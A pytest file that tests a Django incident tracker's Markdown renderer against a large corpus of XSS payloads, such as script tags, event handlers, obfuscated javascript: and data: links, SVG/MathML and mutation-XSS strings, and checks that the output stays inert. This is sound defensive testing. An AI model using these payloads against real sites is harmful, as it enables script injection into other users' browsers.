"""XSS corpus for the Markdown renderer (incidents/markup.py).

Every payload is rendered and the output is checked twice, once as a BeautifulSoup tree and once as a raw
string, by `assert_nothing_executable`: no dangerous element, no event-handler attribute, no
javascript:/data:/vbscript: URL, and `style` only as `text-align` on table cells.
"""

import html
import re
import unicodedata

import pytest
from bs4 import BeautifulSoup
from django.template import Context, Template

from incidents.markup import render_markdown, sanitise

FORBIDDEN_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form",
    "input", "button", "textarea", "select", "option", "meta", "base", "link", "img", "image", "picture",
    "source", "video", "audio", "track", "details", "marquee", "template", "noscript", "noembed",
    "noframes", "xmp", "listing", "plaintext", "title", "html", "head", "body", "isindex", "keygen",
    "animate", "set", "use", "foreignobject", "mglyph", "mtext", "portal",
}  # fmt: skip

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "codebase",
    "cite", "srcset", "dynsrc", "lowsrc", "longdesc", "ping", "manifest", "icon", "to", "values", "from",
}  # fmt: skip

DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")

CELL_ALIGNMENTS = {"left", "right", "center", "justify", "start", "end"}

# A start or end tag in serialised HTML, attribute values quoted or not.
TAG_RE = re.compile(
    r"""<(?P<end>/?)(?P<name>[A-Za-z][^\s/>]*)"""
    r"""(?P<attrs>(?:[\s/]+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)[\s/]*>"""
)
ATTR_RE = re.compile(r"""(?P<name>[^\s"'>/=]+)(?:\s*=\s*(?P<value>"[^"]*"|'[^']*'|[^\s"'=<>`]+))?""")


def compact_url(value: str) -> str:
    """The URL as a lenient browser might read its scheme: whitespace and control characters removed, lower case."""
    return "".join(ch for ch in value if not (ch.isspace() or unicodedata.category(ch) == "Cc")).lower()


def check_attribute(tag: str, name: str, value: str) -> None:
    name = name.lower()
    assert not name.startswith("on"), f"event-handler attribute {name}={value!r} on <{tag}>"
    if name in URL_ATTRIBUTES:
        assert not compact_url(value).startswith(DANGEROUS_SCHEMES), f"dangerous URL {name}={value!r} on <{tag}>"
    if name == "style":
        assert tag in {"td", "th"}, f"style attribute on <{tag}>: {value!r}"
        for declaration in filter(None, (part.strip() for part in value.split(";"))):
            prop, sep, val = declaration.partition(":")
            assert sep, f"unparseable style {value!r} on <{tag}>"
            assert prop.strip().lower() == "text-align", f"style property other than text-align: {value!r}"
            assert val.strip().lower() in CELL_ALIGNMENTS, f"text-align with a non-keyword value: {value!r}"


def check_tree(output: str) -> None:
    soup = BeautifulSoup(output, "html.parser")
    for element in soup.find_all(True):
        tag = element.name.lower()
        assert tag not in FORBIDDEN_ELEMENTS, f"<{tag}> survived: {output!r}"
        for name, value in element.attrs.items():
            check_attribute(tag, name, " ".join(value) if isinstance(value, list) else value)


def check_raw(output: str) -> None:
    lowered = output.lower()
    for tag in FORBIDDEN_ELEMENTS:
        assert f"<{tag}" not in lowered, f"raw <{tag} in output: {output!r}"
        assert f"</{tag}" not in lowered, f"raw </{tag} in output: {output!r}"
    # Outside tags, every "<" must be escaped: walk the string tag by tag, so that nothing that a browser could
    # read as markup (a comment, a processing instruction, a half-open tag) goes unchecked.
    position = 0
    while (start := output.find("<", position)) != -1:
        match = TAG_RE.match(output, start)
        assert match, f"unescaped '<' that is not a plain tag at {start}: {output!r}"
        tag = match["name"].lower()
        assert tag not in FORBIDDEN_ELEMENTS, f"<{tag}> survived (raw): {output!r}"
        if not match["end"]:
            for attr in ATTR_RE.finditer(match["attrs"]):
                value = attr["value"] or ""
                if value[:1] in {'"', "'"}:
                    value = value[1:-1]
                check_attribute(tag, attr["name"], html.unescape(value))
        position = match.end()


def assert_nothing_executable(output: str) -> None:
    """Nothing in `output` can run script, load a resource or restyle the page, by tree and by raw string."""
    check_tree(output)
    check_raw(output)


B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

PAYLOADS = [
    # script tags
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param("<SCRIPT>alert(1)</SCRIPT>", id="script-upper"),
    pytest.param("<ScRiPt>alert(1)</sCrIpT>", id="script-mixed-case"),
    pytest.param('<script src="https://evil.example/x.js"></script>', id="script-src"),
    pytest.param("<script/src=//evil.example/x.js>", id="script-slash-src"),
    pytest.param("<script>alert(1)", id="script-unclosed"),
    pytest.param("<script><script>alert(1)</script></script>", id="script-nested"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="script-split"),
    pytest.param("<<script>alert(1)//<</script>", id="script-double-lt"),
    pytest.param("<script\n>alert(1)</script\n>", id="script-newline-in-tag"),
    pytest.param("Text <script>alert(1)</script> inline.", id="script-inline"),
    pytest.param("**bold <script>alert(1)</script>**", id="script-in-bold"),
    # style tags
    pytest.param("<style>body{background:url(javascript:alert(1))}</style>", id="style-url"),
    pytest.param("<STYLE>@import 'https://evil.example/x.css';</STYLE>", id="style-import-upper"),
    pytest.param("<style>@import url(javascript:alert(1));</style>", id="style-import-javascript"),
    pytest.param("<div><style>*{width:expression(alert(1))}</style></div>", id="style-expression"),
    # event handlers
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param("<IMG SRC=x ONERROR=alert(1)>", id="img-onerror-upper"),
    pytest.param("<img/src=x/onerror=alert(1)>", id="img-slashes"),
    pytest.param("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", id="img-onerror-entities"),
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<svg/onload=alert(1)>", id="svg-slash-onload"),
    pytest.param("<body onload=alert(1)>", id="body-onload"),
    pytest.param("<body onpageshow=alert(1)>", id="body-onpageshow"),
    pytest.param('<a href="https://example.com" onclick="alert(1)">x</a>', id="a-onclick"),
    pytest.param("<a href=https://example.com ONMOUSEOVER=alert(1)>x</a>", id="a-onmouseover-upper"),
    pytest.param('<a href="https://example.com" title=x onfocus=alert(1) autofocus>x</a>', id="a-onfocus"),
    pytest.param('<div onmouseover="alert(1)">hover</div>', id="div-onmouseover"),
    pytest.param("<p onclick=alert(1)>x</p>", id="p-onclick"),
    pytest.param("<b onmouseover=alert(1)>x</b>", id="allowed-tag-handler"),
    pytest.param("<strong/onclick=alert(1)>x</strong>", id="allowed-tag-slash-handler"),
    pytest.param('<abbr title="x" onmouseover="alert(1)">x</abbr>', id="abbr-handler"),
    pytest.param("<ol start=1 onclick=alert(1)><li>x</li></ol>", id="ol-handler"),
    pytest.param("<table><tr><td onclick=alert(1)>x</td></tr></table>", id="td-handler"),
    pytest.param("<details open ontoggle=alert(1)>", id="details-ontoggle"),
    pytest.param("<input autofocus onfocus=alert(1)>", id="input-onfocus"),
    pytest.param("<select autofocus onfocus=alert(1)>", id="select-onfocus"),
    pytest.param("<textarea autofocus onfocus=alert(1)>", id="textarea-onfocus"),
    pytest.param("<button onclick=alert(1)>x</button>", id="button-onclick"),
    pytest.param("<video><source onerror=alert(1)></video>", id="video-source-onerror"),
    pytest.param("<audio src=x onerror=alert(1)>", id="audio-onerror"),
    pytest.param("<marquee onstart=alert(1)>x</marquee>", id="marquee-onstart"),
    pytest.param("<custom-tag onclick=alert(1)>x</custom-tag>", id="unknown-tag-handler"),
    # javascript: in Markdown links
    pytest.param("[x](javascript:alert(1))", id="md-link-javascript"),
    pytest.param("[x](JAVASCRIPT:alert(1))", id="md-link-javascript-upper"),
    pytest.param("[x](JaVaScRiPt:alert(1))", id="md-link-javascript-mixed"),
    pytest.param("[x](   javascript:alert(1))", id="md-link-leading-spaces"),
    pytest.param("[x](<javascript:alert(1)>)", id="md-link-angle-brackets"),
    pytest.param('[x](javascript:alert(1) "title")', id="md-link-with-title"),
    pytest.param("[x](javascript&colon;alert(1))", id="md-link-colon-entity"),
    pytest.param("[x](&#106;avascript:alert(1))", id="md-link-decimal-entity"),
    pytest.param("[x](jav&#x61;script:alert(1))", id="md-link-hex-entity"),
    pytest.param(
        "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))", id="md-link-all-entities"
    ),
    pytest.param("[x](java\tscript:alert(1))", id="md-link-tab"),
    pytest.param("[x](java&#9;script:alert(1))", id="md-link-tab-entity"),
    pytest.param("[x](java&#10;script:alert(1))", id="md-link-newline-entity"),
    pytest.param("[x](java%0ascript:alert(1))", id="md-link-percent-newline"),
    pytest.param("[x](javascript://%0aalert(1))", id="md-link-javascript-comment"),
    # javascript: in reference-style links and autolinks
    pytest.param("[x][1]\n\n[1]: javascript:alert(1)", id="ref-link-javascript"),
    pytest.param('[x][1]\n\n[1]: JaVaScRiPt:alert(1) "title"', id="ref-link-mixed-case-title"),
    pytest.param("[x]\n\n[x]: <javascript:alert(1)>", id="ref-link-angle-brackets"),
    pytest.param("[x][1]\n\n[1]: &#106;avascript:alert(1)", id="ref-link-entity"),
    pytest.param("<javascript:alert(1)>", id="autolink-javascript"),
    pytest.param("<JAVASCRIPT:alert(1)>", id="autolink-javascript-upper"),
    # javascript: in raw <a href>
    pytest.param('<a href="javascript:alert(1)">x</a>', id="a-href-javascript"),
    pytest.param("<a href=javascript:alert(1)>x</a>", id="a-href-unquoted"),
    pytest.param("<a/href=javascript:alert(1)>x</a>", id="a-slash-href"),
    pytest.param("<a href\n=\njavascript:alert(1)>x</a>", id="a-href-newlines-around-equals"),
    pytest.param('<a href="JAVASCRIPT:alert(1)">x</a>', id="a-href-upper"),
    pytest.param("<a href='jav&#x61;script:alert(1)'>x</a>", id="a-href-hex-entity"),
    pytest.param(
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        id="a-href-decimal-entities",
    ),
    pytest.param(
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
        id="a-href-padded-entities-no-semicolons",
    ),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="a-href-colon-entity"),
    pytest.param('<a href="javascript&#58;alert(1)">x</a>', id="a-href-colon-decimal"),
    pytest.param('<a href="java\tscript:alert(1)">x</a>', id="a-href-tab"),
    pytest.param('<a href="java&#x09;script:alert(1)">x</a>', id="a-href-tab-entity"),
    pytest.param('<a href="java\nscript:alert(1)">x</a>', id="a-href-newline"),
    pytest.param('<a href="java&#x0D;script:alert(1)">x</a>', id="a-href-cr-entity"),
    pytest.param('<a href="   javascript:alert(1)">x</a>', id="a-href-leading-spaces"),
    pytest.param('<a href="\x01javascript:alert(1)">x</a>', id="a-href-control-char"),
    pytest.param('<a href="&#x01;&#14; javascript:alert(1)">x</a>', id="a-href-control-entities"),
    pytest.param('<a href="javascript:alert(1)"', id="a-href-unclosed-tag"),
    # data: and vbscript:
    pytest.param(f"[x](data:text/html;base64,{B64_SCRIPT})", id="md-link-data"),
    pytest.param(f"[x][d]\n\n[d]: data:text/html;base64,{B64_SCRIPT}", id="ref-link-data"),
    pytest.param('<a href="data:text/html,<script>alert(1)</script>">x</a>', id="a-href-data"),
    pytest.param(f'<a href="DATA:text/html;base64,{B64_SCRIPT}">x</a>', id="a-href-data-upper"),
    pytest.param(f'<a href=" d&#x61;ta:text/html;base64,{B64_SCRIPT}">x</a>', id="a-href-data-entity"),
    pytest.param("[x](vbscript:msgbox(1))", id="md-link-vbscript"),
    pytest.param('<a href="VBScript:MsgBox(1)">x</a>', id="a-href-vbscript"),
    pytest.param('<a href="vbscript&colon;msgbox(1)">x</a>', id="a-href-vbscript-entity"),
    # SVG
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>', id="svg-a-xlink-href"
    ),
    pytest.param('<svg><a href="javascript:alert(1)"><rect width="100" height="100"/></a></svg>', id="svg-a-href"),
    pytest.param("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", id="svg-animate-onbegin"),
    pytest.param(
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
        id="svg-animate-href",
    ),
    pytest.param('<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', id="svg-set"),
    pytest.param(f'<svg><use href="data:image/svg+xml;base64,{B64_SCRIPT}#x"/></svg>', id="svg-use-data"),
    pytest.param(
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", id="svg-foreignobject"
    ),
    # frames, plugins, forms
    pytest.param('<iframe src="javascript:alert(1)"></iframe>', id="iframe-javascript"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    pytest.param("<IFRAME SRC=https://evil.example>", id="iframe-upper-unclosed"),
    pytest.param(f'<iframe src="data:text/html;base64,{B64_SCRIPT}"></iframe>', id="iframe-data"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object-javascript"),
    pytest.param(f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>', id="object-data"),
    pytest.param('<embed src="javascript:alert(1)">', id="embed-javascript"),
    pytest.param(f'<embed src="data:image/svg+xml;base64,{B64_SCRIPT}">', id="embed-data"),
    pytest.param('<applet code="Evil.class"></applet>', id="applet"),
    pytest.param('<frameset><frame src="javascript:alert(1)"></frameset>', id="frameset"),
    pytest.param('<form action="javascript:alert(1)"><input type=submit></form>', id="form-action"),
    pytest.param("<form><button formaction=javascript:alert(1)>x</button></form>", id="button-formaction"),
    pytest.param("<isindex action=javascript:alert(1) type=image>", id="isindex"),
    # meta, base, link
    pytest.param('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh-javascript"),
    pytest.param('<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://evil.example">', id="meta-refresh-upper"),
    pytest.param('<base href="javascript:alert(1)//">', id="base-javascript"),
    pytest.param('<base href="https://evil.example/">', id="base-href"),
    pytest.param('<link rel="stylesheet" href="https://evil.example/x.css">', id="link-stylesheet"),
    pytest.param(f'<link rel=import href="data:text/html;base64,{B64_SCRIPT}">', id="link-import"),
    # style attributes
    pytest.param('<div style="background:url(javascript:alert(1))">x</div>', id="style-attr-url"),
    pytest.param('<p style="width: expression(alert(1))">x</p>', id="style-attr-expression"),
    pytest.param(
        '<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
        id="style-attr-overlay",
    ),
    pytest.param('<table><tr><td style="background:url(javascript:alert(1))">x</td></tr></table>', id="td-style-url"),
    pytest.param(
        '<table><tr><td style="text-align:left;background-image:url(javascript:alert(1))">x</td></tr></table>',
        id="td-style-align-then-url",
    ),
    pytest.param(
        '<table><tr><th style="text-align: expression(alert(1))">x</th></tr></table>', id="th-style-align-expression"
    ),
    pytest.param(
        '<table><tr><td style="text-align:\\65 xpression(alert(1))">x</td></tr></table>',
        id="td-style-align-escaped-expression",
    ),
    pytest.param(
        '<table><tr><td style="text-align:url(javascript:alert(1))">x</td></tr></table>', id="td-style-align-url"
    ),
    pytest.param(
        '<table><tr><td style="text-align:left;-moz-binding:url(https://evil.example/x.xml#x)">x</td></tr></table>',
        id="td-style-moz-binding",
    ),
    pytest.param(
        '<table><tr><td style="text-a/**/lign:left;behavior:url(x.htc)">x</td></tr></table>',
        id="td-style-comment-behavior",
    ),
    # malformed tags
    pytest.param("<img src=x onerror=alert(1)//", id="img-unclosed"),
    pytest.param("<img src=`x` onerror=alert(1)>", id="img-backticks"),
    pytest.param('<a """><img src=x onerror=alert(1)>">', id="quotes-in-tag"),
    pytest.param('<img """><script>alert(1)</script>">', id="img-quotes-script"),
    pytest.param('<a href="https://example.com"<script>alert(1)</script>>x</a>', id="script-inside-tag"),
    pytest.param("<</p>img src=x onerror=alert(1)>", id="broken-end-tag"),
    pytest.param("<img src=x\nonerror=alert(1)>", id="img-newline-before-handler"),
    # comments, CDATA, processing instructions
    pytest.param("<!-- <script>alert(1)</script> -->", id="comment-script"),
    pytest.param("<!--><img src=x onerror=alert(1)>-->", id="comment-abrupt-close"),
    pytest.param("<!-- --!><img src=x onerror=alert(1)> -->", id="comment-bang-close"),
    pytest.param('<!--<img src="--><img src=x onerror=alert(1)//">', id="comment-inside-attribute"),
    pytest.param("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", id="conditional-comment"),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", id="cdata"),
    pytest.param("<? <script>alert(1)</script> ?>", id="processing-instruction"),
    # math and mutation XSS
    pytest.param("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="mxss-math-mglyph-style"),
    pytest.param('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', id="math-xlink-href"),
    pytest.param('<math href="javascript:alert(1)">x</math>', id="math-href"),
    pytest.param('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', id="mxss-noscript"),
    pytest.param('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', id="mxss-svg-style"),
    pytest.param(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", id="mxss-nested-form"
    ),
    pytest.param(
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
        id="mxss-math-svg-style",
    ),
    pytest.param('<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>', id="mxss-xmp"),
    pytest.param('<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>', id="mxss-textarea"),
    pytest.param("<template><script>alert(1)</script></template>", id="template-script"),
    pytest.param("<title><img src=x onerror=alert(1)></title>", id="title-rcdata"),
    # Markdown images
    pytest.param("![x](javascript:alert(1))", id="md-image-javascript"),
    pytest.param('![x](x" onerror="alert(1))', id="md-image-quote-injection"),
    pytest.param('![x](https://example.com/x.png "t" onerror="alert(1)")', id="md-image-title-injection"),
    pytest.param("![x][img]\n\n[img]: javascript:alert(1)", id="md-image-reference"),
    pytest.param(f"![x](data:image/svg+xml;base64,{B64_SCRIPT})", id="md-image-data"),
    pytest.param("![<img src=x onerror=alert(1)>](x)", id="md-image-html-alt"),
    pytest.param("[![x](javascript:alert(1))](javascript:alert(1))", id="md-image-inside-link"),
    # attribute injection through Markdown
    pytest.param('[x](https://example.com" onclick="alert(1))', id="md-link-quote-injection"),
    pytest.param('[x](https://example.com "t\\" onmouseover=\\"alert(1)")', id="md-link-title-injection"),
    pytest.param("[x](https://example.com 'a\" onmouseover=\"alert(1)')", id="md-link-single-quoted-title"),
    pytest.param("[<img src=x onerror=alert(1)>](https://example.com)", id="md-link-html-text"),
    pytest.param('<https://example.com" onmouseover="alert(1)>', id="autolink-quote-injection"),
    pytest.param(
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |", id="md-table-cells"
    ),
    pytest.param("- item <script>alert(1)</script>\n- [x](javascript:alert(1))", id="md-list"),
    pytest.param("> quote <svg onload=alert(1)>", id="md-blockquote"),
    pytest.param("# heading <img src=x onerror=alert(1)>", id="md-heading"),
    pytest.param('<div markdown="1">[x](javascript:alert(1))</div>', id="md-in-html-block"),
]

# Code spans and blocks: the markup inside must come out as visible, escaped text.
CODE_PAYLOADS = [
    pytest.param("`<script>alert(1)</script>`", "<script>alert(1)</script>", id="code-span-script"),
    pytest.param("``<iframe src=javascript:alert(1)>``", "<iframe src=javascript:alert(1)>", id="code-span-iframe"),
    pytest.param("```\n<script>alert(1)</script>\n```", "<script>alert(1)</script>", id="fenced-script"),
    pytest.param(
        "```html\n<img src=x onerror=alert(1)>\n```", "<img src=x onerror=alert(1)>", id="fenced-with-language"
    ),
    pytest.param("~~~\n<svg onload=alert(1)>\n~~~", "<svg onload=alert(1)>", id="fenced-tildes"),
    pytest.param(
        '```"><script>alert(1)</script>\nx\n```', "<script>alert(1)</script>", id="fence-info-string-injection"
    ),
    pytest.param("    <script>alert(1)</script>", "<script>alert(1)</script>", id="indented-code"),
]

ALL_PAYLOADS = PAYLOADS + [pytest.param(p.values[0], id=p.id) for p in CODE_PAYLOADS]


@pytest.mark.parametrize(
    "bad_output",
    [
        "<p><script>alert(1)</script></p>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<p><img src=x></p>",
        "<svg><a>x</a></svg>",
        "<math></math>",
        '<p><b onclick="alert(1)">x</b></p>',
        "<p><b/ONMOUSEOVER=alert(1)>x</b></p>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="  JAVA\tSCRIPT:alert(1)">x</a>',
        '<a href="jav&#x61;script:alert(1)">x</a>',
        '<a href="java&#x0A;script:alert(1)">x</a>',
        '<a href="\x01data:text/html,x">x</a>',
        "<a href='VBScript:x'>x</a>",
        '<a xlink:href="javascript:alert(1)">x</a>',
        '<p style="text-align:left">x</p>',
        '<td style="color:red">x</td>',
        '<td style="text-align:expression(alert(1))">x</td>',
        "<!-- <img src=x onerror=alert(1)> -->",
        "<p><</p>",
    ],
)
def test_the_checker_rejects_executable_html(bad_output):
    with pytest.raises(AssertionError):
        assert_nothing_executable(bad_output)


@pytest.mark.parametrize("payload", ALL_PAYLOADS)
def test_no_payload_renders_anything_executable(payload):
    assert_nothing_executable(render_markdown(payload))


def tags_and_text(output: str) -> tuple[set[str], str]:
    return {m[0] for m in TAG_RE.finditer(output) if not m["end"]}, BeautifulSoup(output, "html.parser").get_text()


@pytest.mark.parametrize("payload", ALL_PAYLOADS)
def test_sanitising_the_output_again_removes_nothing(payload):
    # Output that loses elements, attributes or text when parsed a second time is the mark of mutation XSS.
    # (Nesting may change: `<p><select></p>` comes out as `<p><p></p></p>`, which re-parses as three empty <p>.)
    output = render_markdown(payload)
    assert tags_and_text(sanitise(output)) == tags_and_text(output)


@pytest.mark.parametrize(("payload", "text"), CODE_PAYLOADS)
def test_markup_inside_code_is_shown_as_escaped_text(payload, text):
    output = render_markdown(payload)
    assert_nothing_executable(output)
    assert html.escape(text, quote=False) in output
    code = BeautifulSoup(output, "html.parser").find("code")
    assert code is not None
    assert text in code.get_text()


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        '<a href="jav&#x61;script:alert(1)" onclick="alert(1)">x</a>',
        "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
        '<table><tr><td style="text-align:left;background:url(javascript:alert(1))">x</td></tr></table>',
    ],
)
def test_markdown_template_filter_renders_nothing_executable(payload):
    output = Template("{% load status %}{{ body|markdown }}").render(Context({"body": payload}))
    assert_nothing_executable(output)
    assert "&amp;lt;" not in output  # sanitised once, not escaped a second time by the template


def test_headings_render():
    soup = BeautifulSoup(render_markdown("# Outage\n\n## Timeline"), "html.parser")
    assert soup.h1.get_text() == "Outage"
    assert soup.h2.get_text() == "Timeline"


def test_bold_and_italic_render():
    soup = BeautifulSoup(render_markdown("**down** and *slow*"), "html.parser")
    assert soup.strong.get_text() == "down"
    assert soup.em.get_text() == "slow"


def test_bulleted_and_numbered_lists_render():
    output = render_markdown("- API\n- Dashboard\n\n3. first\n4. second")
    assert_nothing_executable(output)
    soup = BeautifulSoup(output, "html.parser")
    assert [li.get_text() for li in soup.ul.find_all("li")] == ["API", "Dashboard"]
    assert [li.get_text() for li in soup.ol.find_all("li")] == ["first", "second"]
    assert soup.ol["start"] == "3"


def test_tables_render_with_column_alignment():
    output = render_markdown("| Left | Centre | Right |\n|:-----|:------:|------:|\n| a | b | c |")
    assert_nothing_executable(output)
    soup = BeautifulSoup(output, "html.parser")
    assert [th.get_text() for th in soup.find_all("th")] == ["Left", "Centre", "Right"]
    aligns = [re.sub(r"\s", "", cell["style"]).rstrip(";") for cell in soup.find_all("td")]
    assert aligns == ["text-align:left", "text-align:center", "text-align:right"]


def test_fenced_code_renders_as_a_code_block_with_script_escaped():
    output = render_markdown("```\n<script>alert(1)</script>\n```")
    assert output.startswith("<pre><code>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in output
    assert BeautifulSoup(output, "html.parser").pre.code.get_text().strip() == "<script>alert(1)</script>"


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[status](https://status.example.com/)", "https://status.example.com/"),
        ("[plain](http://example.com/page)", "http://example.com/page"),
        ("[mail us](mailto:ops@example.com)", "mailto:ops@example.com"),
        ("<https://example.com/autolink>", "https://example.com/autolink"),
        ('<a href="https://example.com/raw" title="Raw">raw</a>', "https://example.com/raw"),
        ("[ref][1]\n\n[1]: https://example.com/ref", "https://example.com/ref"),
    ],
)
def test_http_https_and_mailto_links_are_kept_with_noopener(source, href):
    output = render_markdown(source)
    assert_nothing_executable(output)
    link = BeautifulSoup(output, "html.parser").a
    assert link["href"] == href
    assert "noopener" in link["rel"]


def test_email_autolinks_are_kept_as_mailto():
    link = BeautifulSoup(render_markdown("<ops@example.com>"), "html.parser").a
    assert link["href"] == "mailto:ops@example.com"
    assert link.get_text() == "ops@example.com"


def test_a_plain_newline_becomes_a_line_break():
    soup = BeautifulSoup(render_markdown("Investigating.\nMore soon."), "html.parser")
    assert soup.p.br is not None
    assert soup.p.get_text() == "Investigating.\nMore soon."


def test_empty_input_renders_nothing():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""
